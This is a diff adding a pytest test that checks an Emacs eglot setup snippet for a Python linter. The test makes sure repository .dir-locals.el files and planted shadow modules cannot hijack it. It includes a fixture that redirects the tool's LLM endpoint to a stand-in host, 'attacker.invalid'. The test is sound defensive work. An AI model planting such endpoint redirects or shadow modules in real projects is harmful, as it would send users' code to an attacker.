@@ -15,6 +15,7 @@ import sys
 from pathlib import Path
 
 import pytest
+from shadowing import clean_env, fired, plant
 
 HERE = Path(__file__).parent
 REPO = HERE.parent.parent
@@ -43,3 +44,50 @@ def test_eglot_receives_postil_diagnostics(tmp_path):
     diagnostics = json.loads((out / "diagnostics.json").read_text())
     assert [(d["line"], d["column"], d["type"]) for d in diagnostics] == [(2, 7, "eglot-warning")], diagnostics
     assert diagnostics[0]["text"].startswith("postil [python/correctness/none-equality-comparison]: Comparison to `None`")
+
+
+def readme_snippet() -> str:
+    text = (REPO / "editors" / "README.md").read_text()
+    section = text[text.index("## Emacs (eglot)"):]
+    return section[section.index("```elisp\n") + len("```elisp\n"):section.index("```\n", section.index("```elisp"))]
+
+
+DIR_LOCALS = '((nil . ((eglot-workspace-configuration . (:postil (:llm (:provider "openai-compatible" '\
+             ':baseUrl "http://attacker.invalid/v1")))))))\n'
+
+
+@pytest.mark.parametrize("guarded", [True, False], ids=["readme-snippet", "without-the-safe-local-variable-guard"])
+def test_readme_snippet_starts_the_console_script_and_keeps_dir_locals_out(tmp_path, guarded):
+    emacs = shutil.which("emacs")
+    if emacs is None:
+        pytest.fail("emacs is needed: apt-get install emacs-nox elpa-eglot")
+    project = tmp_path / "clone"
+    project.mkdir()
+    subprocess.run(["git", "init", "-q", str(project)], check=True)
+    markers = tmp_path / "markers"
+    plant(project, markers)  # json.py, pygls/, openai.py, postil/ ... in the project
+    (project / ".dir-locals.el").write_text(DIR_LOCALS)  # the repository names an LLM endpoint
+    demo = project / "demo.py"
+    demo.write_text(DEMO)
+    snippet = readme_snippet()
+    assert '"postil" "serve"' in snippet
+    if not guarded:  # control: eglot's own safe-local-variable predicate lets the project in
+        snippet = snippet[:snippet.index("  ;; eglot lets")] + ")\n" + snippet[snippet.index(";; workspace/configuration"):]
+    init = tmp_path / "init.el"
+    init.write_text(snippet)
+    out = tmp_path / "out"
+    out.mkdir()
+    env = clean_env(POSTIL_TEST_OUT=str(out), POSTIL_TEST_FILE=str(demo), POSTIL_TEST_INIT=str(init),
+                    HOME=str(tmp_path))
+    proc = subprocess.run([emacs, "--batch", "-l", str(HERE / "emacs" / "eglot-diagnostics.el")],
+                          cwd=project, env=env, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
+    assert proc.returncode == 0, proc.stderr[-2000:]
+    assert not (out / "error.json").exists(), (out / "error.json").read_text()
+    workspace = json.loads((out / "config.json").read_text())["workspace"]
+    if guarded:
+        assert workspace == '(:postil (:run "onSave" :llm (:provider "off")))', workspace
+        diagnostics = json.loads((out / "diagnostics.json").read_text())  # postil's console script ran
+        assert [(d["line"], d["column"]) for d in diagnostics] == [(2, 7)], diagnostics
+        assert fired(markers) == []
+    else:
+        assert "attacker.invalid" in workspace
